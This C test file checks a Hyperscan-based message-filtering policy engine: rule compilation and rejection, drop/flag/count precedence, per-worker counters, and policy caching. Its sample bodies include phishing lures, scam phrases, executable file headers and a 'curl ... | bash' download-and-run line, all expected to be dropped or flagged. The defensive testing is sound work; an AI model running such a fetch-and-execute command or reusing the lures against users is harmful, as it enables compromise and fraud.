/* SPDX-License-Identifier: MIT */
/*
 * test_policy.c - rules compiled and scanned (policy/policy.c).
 *
 * default.rules compiles and gives the expected verdict on a table of
 * bodies (URLs, phrases, byte patterns, clean text); patterns Hyperscan
 * refuses (huge repetitions, look-arounds, back-references, empty matches)
 * are rejected naming the file, line and rule with Hyperscan's reason; the
 * precedence (drop > flag > count, then file order) holds whatever order
 * the matches come in; per-worker scratch and counters add up; add and
 * remove give new policies and leave the old one working; a saved policy
 * restores to the same verdicts and a damaged one is refused.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "policy/policy.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

static char err[1024];

/* A policy from text (as file "t.rules"); fails the test on any error. */
static struct sg_policy *compile_text(const char *text)
{
	struct sg_policy *p;
	struct sg_rules rs;

	if (sg_rules_parse_text(&rs, "t.rules", text, strlen(text), err, sizeof(err)) < 0)
		fail_msg("%s", err);
	if (sg_policy_compile(&rs, &p, err, sizeof(err)) < 0)
		fail_msg("%s", err);
	sg_rules_fini(&rs); /* the policy keeps its own copy */
	return p;
}

static struct sg_policy *load_default(void)
{
	const char *root = getenv("SG_SOURCE_ROOT");
	struct sg_policy *p;
	char path[1024];

	assert_non_null(root);
	snprintf(path, sizeof(path), "%s/rules/default.rules", root);
	if (sg_policy_load(path, &p, err, sizeof(err)) < 0)
		fail_msg("%s", err);
	return p;
}

static const struct {
	const char *body;
	size_t len; /* 0: strlen */
	uint8_t action;
	uint32_t rule_id;
} bodies[] = {
	{ "lunch at noon? I'll bring the slides for the review.", 0, SG_RULE_NONE, 0 },
	{ "see https://example.org/docs/intro for the notes", 0, SG_RULE_COUNT, 5001 },
	{ "log in at http://paypal-secure.example.com/x now", 0, SG_RULE_DROP, 1001 },
	{ "http://10.0.0.7:8080/account/verify.php", 0, SG_RULE_DROP, 1012 },
	{ "http://192.168.1.20/pictures/", 0, SG_RULE_FLAG, 1013 },
	{ "your new build: https://setup.zip/download tonight", 0, SG_RULE_DROP, 1011 },
	{ "Your Account Has Been Suspended, reply today", 0, SG_RULE_DROP, 3001 },
	{ "please keep your SEED PHRASE safe", 0, SG_RULE_DROP, 3004 },
	{ "Act now and save", 0, SG_RULE_COUNT, 3012 },
	{ "curl -s https://x.example/i.sh | bash", 0, SG_RULE_DROP, 2008 },
	{ "MZ\x90\x00\x03\x00\x00\x00\x04\x00", 10, SG_RULE_DROP, 4001 },
	{ "PK\x03\x04\x14\x00\x00\x00", 8, SG_RULE_FLAG, 4004 },
	{ "\x7f" "ELF\x02\x01\x01\x00", 8, SG_RULE_DROP, 4003 },
	{ "send me 0.5 btc and I return 1", 0, SG_RULE_DROP, 3006 },
};

static void scan_ok(const struct sg_policy *p, struct sg_policy_scratch *s,
		    struct sg_policy_counters *c, const char *body, size_t len,
		    struct sg_policy_verdict *v)
{
	assert_int_equal(sg_policy_scan(p, s, c, body, (uint32_t)(len ? len : strlen(body)), v), 0);
}

static void check_bodies(const struct sg_policy *p, struct sg_policy_scratch *s)
{
	for (size_t i = 0; i < ARRAY_SIZE(bodies); i++) {
		struct sg_policy_verdict v;

		scan_ok(p, s, NULL, bodies[i].body, bodies[i].len, &v);
		if (v.action != bodies[i].action || v.rule_id != bodies[i].rule_id)
			fail_msg("body %zu: %s by %u, want %s by %u", i,
				 sg_rules_action_name(v.action), v.rule_id,
				 sg_rules_action_name(bodies[i].action), bodies[i].rule_id);
		assert_int_equal(v.action != SG_RULE_NONE, v.n_hits > 0);
	}
}

static void test_default_rules(void **state)
{
	struct sg_policy *p = load_default();
	struct sg_policy_scratch *s;

	(void)state;
	assert_int_equal(sg_policy_rules(p)->n, 100);
	assert_true(sg_policy_db_size(p) > 0);
	assert_int_equal(sg_policy_scratch_alloc(p, &s, err, sizeof(err)), 0);
	check_bodies(p, s);
	sg_policy_scratch_free(s);
	sg_policy_free(p);
}

static const struct {
	const char *text, *err;
} refused[] = {
	{ "1 count - ok\n7 drop - (a|b){1000000}\n", "t.rules:2: rule 7: Bounded repeat is too large." },
	{ "7 drop - a(?=b)\n", "t.rules:1: rule 7: Zero-width assertions are not supported." },
	{ "7 drop - (a)\\1\n", "t.rules:1: rule 7: Back-references are unsupported." },
	{ "7 drop - foo(\n",
	  "t.rules:1: rule 7: Missing close parenthesis for group started at index 3." },
	{ "1 count - x\n\n# c\n7 drop - a*\n",
	  "t.rules:4: rule 7: Pattern matches empty buffer; use HS_FLAG_ALLOWEMPTY to enable "
	  "support." },
};

static void test_refused(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(refused); i++) {
		struct sg_policy *p = (struct sg_policy *)&p;
		struct sg_rules rs;

		assert_int_equal(sg_rules_parse_text(&rs, "t.rules", refused[i].text,
						     strlen(refused[i].text), err, sizeof(err)), 0);
		assert_int_equal(sg_policy_compile(&rs, &p, err, sizeof(err)), -1);
		assert_null(p);
		assert_string_equal(err, refused[i].err);
		sg_rules_fini(&rs);
	}
}

static void test_precedence(void **state)
{
	struct sg_policy *p = compile_text("1 count - aaa\n2 flag - bbb\n3 drop - ccc\n"
					   "4 drop - xxx\n5 flag - yyy\n6 count - zzz\n");
	struct sg_policy_scratch *s;
	struct sg_policy_verdict v;

	(void)state;
	assert_int_equal(sg_policy_scratch_alloc(p, &s, err, sizeof(err)), 0);
	/* drop over flag over count, whatever comes first in the body. */
	scan_ok(p, s, NULL, "aaa bbb ccc", 0, &v);
	assert_int_equal(v.action, SG_RULE_DROP);
	assert_int_equal(v.rule_id, 3);
	assert_int_equal(v.rule, 2);
	assert_int_equal(v.n_hits, 3);
	assert_int_equal(v.hits[0], 0); /* match order: by end offset */
	assert_int_equal(v.hits[1], 1);
	assert_int_equal(v.hits[2], 2);
	/* Two drops: the one earlier in the file, though it matches later. */
	scan_ok(p, s, NULL, "xxx ccc", 0, &v);
	assert_int_equal(v.action, SG_RULE_DROP);
	assert_int_equal(v.rule_id, 3);
	assert_int_equal(v.hits[0], 3);
	scan_ok(p, s, NULL, "yyy zzz bbb", 0, &v);
	assert_int_equal(v.action, SG_RULE_FLAG);
	assert_int_equal(v.rule_id, 2);
	scan_ok(p, s, NULL, "zzz aaa", 0, &v);
	assert_int_equal(v.action, SG_RULE_COUNT);
	assert_int_equal(v.rule_id, 1);
	/* Single match: a rule is one hit however often it matches. */
	scan_ok(p, s, NULL, "aaaaaa aaa aaa", 0, &v);
	assert_int_equal(v.n_hits, 1);
	scan_ok(p, s, NULL, "nothing here", 0, &v);
	assert_int_equal(v.action, SG_RULE_NONE);
	assert_int_equal(v.rule_id, 0);
	assert_int_equal(v.n_hits, 0);
	scan_ok(p, s, NULL, "", 0, &v);
	assert_int_equal(v.action, SG_RULE_NONE);
	sg_policy_scratch_free(s);
	sg_policy_free(p);
}

static void test_many_hits(void **state)
{
	char text[2048] = "", body[64];
	struct sg_policy *p;
	struct sg_policy_scratch *s;
	struct sg_policy_counters *c;
	struct sg_policy_verdict v;

	(void)state;
	/* 20 rules on one letter each: more hits than a verdict lists. */
	for (unsigned i = 0; i < 20; i++) {
		snprintf(text + strlen(text), sizeof(text) - strlen(text), "%u count - %c\n", 100 + i,
			 'a' + i);
		body[i] = (char)('a' + i);
	}
	p = compile_text(text);
	assert_int_equal(sg_policy_scratch_alloc(p, &s, err, sizeof(err)), 0);
	c = sg_policy_counters_alloc(p);
	assert_non_null(c);
	scan_ok(p, s, c, body, 20, &v);
	assert_int_equal(v.n_hits, 20);
	assert_int_equal(v.rule_id, 100);
	for (unsigned i = 0; i < SG_POLICY_VERDICT_HITS; i++)
		assert_int_equal(v.hits[i], i);
	for (unsigned i = 0; i < 20; i++)
		assert_int_equal(c->hits[i], 1); /* every hit counted, not only those listed */
	sg_policy_counters_free(c);
	sg_policy_scratch_free(s);
	sg_policy_free(p);
}

static void test_workers_counters(void **state)
{
	struct sg_policy *p = compile_text("1 count - aaa\n2 flag - bbb\n3 drop - ccc\n");
	struct sg_policy_scratch *s[2];
	struct sg_policy_counters *c[2], *total, *other;
	struct sg_policy *q = compile_text("1 count - aaa\n");
	const void *burst[4] = { "aaa", "bbb ccc", "none", "aaa ccc" };
	const uint32_t lens[4] = { 3, 7, 4, 7 };
	struct sg_policy_verdict v[4];

	(void)state;
	for (unsigned w = 0; w < 2; w++) {
		assert_int_equal(sg_policy_scratch_alloc(p, &s[w], err, sizeof(err)), 0);
		c[w] = sg_policy_counters_alloc(p);
		assert_non_null(c[w]);
		assert_int_equal(c[w]->n_rules, 3);
	}
	/* Worker 0 a burst, worker 1 two bodies; each on its own scratch. */
	assert_int_equal(sg_policy_scan_burst(p, s[0], c[0], burst, lens, 4, v), 0);
	assert_int_equal(v[0].action, SG_RULE_COUNT);
	assert_int_equal(v[1].action, SG_RULE_DROP);
	assert_int_equal(v[2].action, SG_RULE_NONE);
	assert_int_equal(v[3].rule_id, 3);
	scan_ok(p, s[1], c[1], "bbb", 0, &v[0]);
	scan_ok(p, s[1], c[1], "aaa bbb", 0, &v[0]);

	total = sg_policy_counters_alloc(p);
	assert_non_null(total);
	assert_int_equal(sg_policy_counters_sum(total, (const struct sg_policy_counters *const *)c, 2),
			 0);
	assert_int_equal(total->scanned, 6);
	assert_int_equal(total->bytes, 3 + 7 + 4 + 7 + 3 + 7);
	assert_int_equal(total->hits[0], 3);
	assert_int_equal(total->hits[1], 3);
	assert_int_equal(total->hits[2], 2);
	assert_int_equal(total->verdicts[SG_RULE_NONE], 1);
	assert_int_equal(total->verdicts[SG_RULE_COUNT], 1);
	assert_int_equal(total->verdicts[SG_RULE_FLAG], 2);
	assert_int_equal(total->verdicts[SG_RULE_DROP], 2);
	assert_int_equal(total->errors, 0);

	/* Counters of another policy (other rule count) do not add up. */
	other = sg_policy_counters_alloc(q);
	assert_non_null(other);
	assert_int_equal(sg_policy_counters_sum(total,
						(const struct sg_policy_counters *const *)&other, 1),
			 -1);
	sg_policy_counters_free(other);
	sg_policy_counters_free(total);
	for (unsigned w = 0; w < 2; w++) {
		sg_policy_counters_free(c[w]);
		sg_policy_scratch_free(s[w]);
	}
	sg_policy_free(q);
	sg_policy_free(p);
}

static void test_empty_policy(void **state)
{
	struct sg_policy *p = compile_text("# nothing yet\n");
	struct sg_policy_scratch *s;
	struct sg_policy_counters *c;
	struct sg_policy_verdict v;

	(void)state;
	assert_int_equal(sg_policy_db_size(p), 0);
	assert_int_equal(sg_policy_scratch_alloc(p, &s, err, sizeof(err)), 0);
	c = sg_policy_counters_alloc(p);
	assert_non_null(c);
	scan_ok(p, s, c, "seed phrase", 0, &v);
	assert_int_equal(v.action, SG_RULE_NONE);
	assert_int_equal(c->scanned, 1);
	assert_int_equal(c->verdicts[SG_RULE_NONE], 1);
	sg_policy_counters_free(c);
	sg_policy_scratch_free(s);
	sg_policy_free(p);
	sg_policy_free(NULL);
	sg_policy_scratch_free(NULL);
}

static void test_add_remove(void **state)
{
	struct sg_policy *p = compile_text("1 flag - aaa\n2 count - bbb\n");
	struct sg_policy *q, *r, *bad = (struct sg_policy *)&bad;
	struct sg_policy_scratch *sp, *sq, *sr;
	struct sg_policy_verdict v;

	(void)state;
	assert_int_equal(sg_policy_add_rule(p, "9 drop caseless ZZZ", &q, err, sizeof(err)), 0);
	assert_int_equal(sg_policy_rules(q)->n, 3);
	assert_int_equal(sg_policy_rules(p)->n, 2);
	assert_int_equal(sg_policy_scratch_alloc(p, &sp, err, sizeof(err)), 0);
	assert_int_equal(sg_policy_scratch_alloc(q, &sq, err, sizeof(err)), 0);
	scan_ok(q, sq, NULL, "aaa zzz", 0, &v);
	assert_int_equal(v.action, SG_RULE_DROP);
	assert_int_equal(v.rule_id, 9);
	scan_ok(p, sp, NULL, "aaa zzz", 0, &v); /* the old one is untouched */
	assert_int_equal(v.action, SG_RULE_FLAG);

	assert_int_equal(sg_policy_add_rule(p, "9 drop - (x|y){1000000}", &bad, err, sizeof(err)),
			 -1);
	assert_null(bad);
	assert_string_equal(err, "rule 9: Bounded repeat is too large.");
	assert_int_equal(sg_policy_add_rule(p, "2 drop - x", &bad, err, sizeof(err)), -1);
	assert_string_equal(err, "id 2: already used on line 2");
	assert_int_equal(sg_policy_add_rule(p, "  # c", &bad, err, sizeof(err)), -1);
	assert_string_equal(err, "no rule in the line");
	assert_int_equal(sg_policy_add_rule(p, "3 kill - x", &bad, err, sizeof(err)), -1);
	assert_string_equal(err, "action: 'kill' is not drop, flag or count");

	assert_int_equal(sg_policy_remove_rule(q, 1, &r, err, sizeof(err)), 0);
	assert_int_equal(sg_policy_remove_rule(q, 5, &bad, err, sizeof(err)), -1);
	assert_string_equal(err, "id 5: no such rule");
	assert_int_equal(sg_policy_scratch_alloc(r, &sr, err, sizeof(err)), 0);
	scan_ok(r, sr, NULL, "aaa bbb", 0, &v);
	assert_int_equal(v.action, SG_RULE_COUNT);
	assert_int_equal(v.rule_id, 2);
	assert_int_equal(v.rule, 0);

	sg_policy_scratch_free(sr);
	sg_policy_scratch_free(sq);
	sg_policy_scratch_free(sp);
	sg_policy_free(r);
	sg_policy_free(q);
	sg_policy_free(p);
}

static void test_save_restore(void **state)
{
	char path[] = "/tmp/test_policy_XXXXXX", want[1100];
	struct sg_policy *p = load_default(), *q, *e, *bad = (struct sg_policy *)&bad;
	struct sg_policy_scratch *s;
	const struct sg_rules *a, *b;
	FILE *f;
	long size;
	int fd, ch;

	(void)state;
	fd = mkstemp(path);
	assert_true(fd >= 0);
	close(fd);
	assert_int_equal(sg_policy_save(p, path, err, sizeof(err)), 0);
	if (sg_policy_restore(path, &q, err, sizeof(err)) < 0)
		fail_msg("%s", err);
	a = sg_policy_rules(p);
	b = sg_policy_rules(q);
	assert_int_equal(a->n, b->n);
	for (unsigned i = 0; i < a->n; i++) {
		assert_int_equal(a->v[i].id, b->v[i].id);
		assert_int_equal(a->v[i].action, b->v[i].action);
		assert_int_equal(a->v[i].flags, b->v[i].flags);
		assert_string_equal(a->v[i].pattern, b->v[i].pattern);
	}
	assert_int_equal(sg_policy_db_size(p), sg_policy_db_size(q));
	assert_int_equal(sg_policy_scratch_alloc(q, &s, err, sizeof(err)), 0);
	check_bodies(q, s);
	sg_policy_scratch_free(s);
	sg_policy_free(q);

	/* One byte changed in the database: refused. */
	f = fopen(path, "r+b");
	assert_non_null(f);
	assert_int_equal(fseek(f, 0, SEEK_END), 0);
	size = ftell(f);
	assert_int_equal(fseek(f, size - 100, SEEK_SET), 0);
	ch = fgetc(f);
	assert_int_equal(fseek(f, size - 100, SEEK_SET), 0);
	fputc(ch ^ 1, f);
	fclose(f);
	assert_int_equal(sg_policy_restore(path, &bad, err, sizeof(err)), -1);
	assert_null(bad);
	snprintf(want, sizeof(want), "%s: not a saved policy, or damaged", path);
	assert_string_equal(err, want);
	/* Nor a rules file. */
	assert_int_equal(truncate(path, 0), 0);
	assert_int_equal(sg_policy_restore(path, &bad, err, sizeof(err)), -1);
	assert_string_equal(err, want);

	/* An empty policy round-trips too. */
	e = compile_text("");
	assert_int_equal(sg_policy_save(e, path, err, sizeof(err)), 0);
	assert_int_equal(sg_policy_restore(path, &q, err, sizeof(err)), 0);
	assert_int_equal(sg_policy_rules(q)->n, 0);
	sg_policy_free(q);
	sg_policy_free(e);
	unlink(path);
	sg_policy_free(p);
}

/* The file's rules with a cached database: lines as in the file, same verdicts. */
static void test_load_cached(void **state)
{
	char dir[] = "/tmp/test_policy_cache_XXXXXX", rules[128], cache[128], note[512];
	const char text[] = "# comment\n\n7 drop caseless paypa[l1]-secure\\.example\n"
			    "8 flag - hello\\s+world\n";
	struct sg_policy *p, *q;
	struct sg_policy_scratch *s;
	struct sg_policy_verdict v;
	int from;
	FILE *f;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(rules, sizeof(rules), "%s/r.rules", dir);
	snprintf(cache, sizeof(cache), "%s/r.cache", dir);
	f = fopen(rules, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);

	/* No cache yet: compiled, the cache written; the reason is said. */
	assert_int_equal(sg_policy_load_cached(rules, cache, &p, &from, err, sizeof(err), note,
					       sizeof(note)), 0);
	assert_int_equal(from, 0);
	assert_non_null(strstr(note, "r.cache"));
	assert_int_equal(access(cache, R_OK), 0);
	/* Now from the cache, with the file's line numbers. */
	assert_int_equal(sg_policy_load_cached(rules, cache, &q, &from, err, sizeof(err), note,
					       sizeof(note)), 0);
	assert_int_equal(from, 1);
	assert_string_equal(note, "");
	assert_int_equal(sg_policy_rules(q)->n, 2);
	assert_int_equal(sg_policy_rules(q)->v[0].line, 3);
	assert_int_equal(sg_policy_rules(q)->v[1].line, 4);
	assert_string_equal(sg_policy_rules(q)->path, rules);
	assert_int_equal(sg_policy_scratch_alloc(q, &s, err, sizeof(err)), 0);
	assert_int_equal(sg_policy_scan(q, s, NULL, "go to PAYPA1-secure.example", 27, &v), 0);
	assert_int_equal(v.action, SG_RULE_DROP);
	assert_int_equal(v.rule_id, 7);
	assert_int_equal(sg_policy_scan(q, s, NULL, "hello   world", 13, &v), 0);
	assert_int_equal(v.rule_id, 8);
	sg_policy_scratch_free(s);
	sg_policy_free(q);

	/* The file changed: the cache is stale, compiled again and rewritten. */
	f = fopen(rules, "a");
	fputs("9 count - invoice\n", f);
	fclose(f);
	assert_int_equal(sg_policy_load_cached(rules, cache, &q, &from, err, sizeof(err), note,
					       sizeof(note)), 0);
	assert_int_equal(from, 0);
	assert_non_null(strstr(note, "holds other rules"));
	assert_int_equal(sg_policy_rules(q)->n, 3);
	sg_policy_free(q);
	assert_int_equal(sg_policy_load_cached(rules, cache, &q, &from, err, sizeof(err), note,
					       sizeof(note)), 0);
	assert_int_equal(from, 1);
	sg_policy_free(q);

	/* A damaged cache: compiled instead. */
	assert_int_equal(truncate(cache, 40), 0);
	assert_int_equal(sg_policy_load_cached(rules, cache, &q, &from, err, sizeof(err), note,
					       sizeof(note)), 0);
	assert_int_equal(from, 0);
	assert_non_null(strstr(note, "damaged"));
	sg_policy_free(q);

	/* A cache that cannot be written: compiled, said. */
	assert_int_equal(sg_policy_load_cached(rules, "/nonexistent/dir/c", &q, &from, err,
					       sizeof(err), note, sizeof(note)), 0);
	assert_int_equal(from, 0);
	assert_non_null(strstr(note, "/nonexistent/dir/c"));
	sg_policy_free(q);

	/* A bad rules file is an error whatever the cache. */
	f = fopen(rules, "a");
	fputs("10 drop - (a|b){1000000}\n", f);
	fclose(f);
	assert_int_equal(sg_policy_load_cached(rules, cache, &q, &from, err, sizeof(err), note,
					       sizeof(note)), -1);
	assert_null(q);
	assert_non_null(strstr(err, "r.rules:6: rule 10:"));
	unlink(cache);
	unlink(rules);
	rmdir(dir);
	sg_policy_free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_default_rules),
		cmocka_unit_test(test_refused),
		cmocka_unit_test(test_precedence),
		cmocka_unit_test(test_many_hits),
		cmocka_unit_test(test_workers_counters),
		cmocka_unit_test(test_empty_policy),
		cmocka_unit_test(test_add_remove),
		cmocka_unit_test(test_save_restore),
		cmocka_unit_test(test_load_cached),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
